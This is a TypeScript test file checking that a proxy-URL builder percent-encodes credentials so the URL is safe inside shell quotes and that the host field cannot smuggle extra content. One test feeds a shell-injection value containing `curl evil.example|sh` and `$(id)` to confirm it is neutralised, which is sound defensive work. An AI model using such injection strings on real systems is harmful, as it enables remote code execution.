import { assert, describe, it } from "@effect/vitest"
import { execFileSync } from "node:child_process"
import { addressOf } from "../../src/orders/ProxyAddress.ts"

const printable = Array.from({ length: 95 }, (_, index) => String.fromCharCode(32 + index)).join("")
const others = "\0\t\n\v\f\r\u007f\u0085\u2028\u2029äß€\u{1F600}"

const addressWith = (text: string, host = "192.0.2.1") =>
  addressOf({ protocol: "HTTP", host, port: 20_000, username: text, password: text }) ?? ""

describe("The URL of a proxy", () => {
  it("stands between quotes of any kind, whatever its login has", () => {
    const url = addressWith(printable + others)
    assert.match(url, /^http:\/\/[\w%.~:@-]+$/)
    assert.strictEqual(execFileSync("sh", ["-c", `printf %s '${url}'`]).toString(), url)
    assert.strictEqual(execFileSync("sh", ["-c", `printf %s "${url}"`]).toString(), url)
    const { password, username } = new URL(url)
    assert.deepStrictEqual(
      [decodeURIComponent(username), decodeURIComponent(password)],
      [printable + others, printable + others]
    )
  })

  it("has no more in its host than a name or an address", () => {
    assert.strictEqual(addressWith("u", "gate-1.example.com"), "http://u:u@gate-1.example.com:20000")
    assert.strictEqual(addressWith("u", "[2001:db8::1]"), "http://u:u@[2001:db8::1]:20000")
    assert.match(addressWith("u", `x'; curl evil.example|sh\n"$(id)\``), /^http:\/\/u:u@[\w.%-]+:20000$/)
  })
})
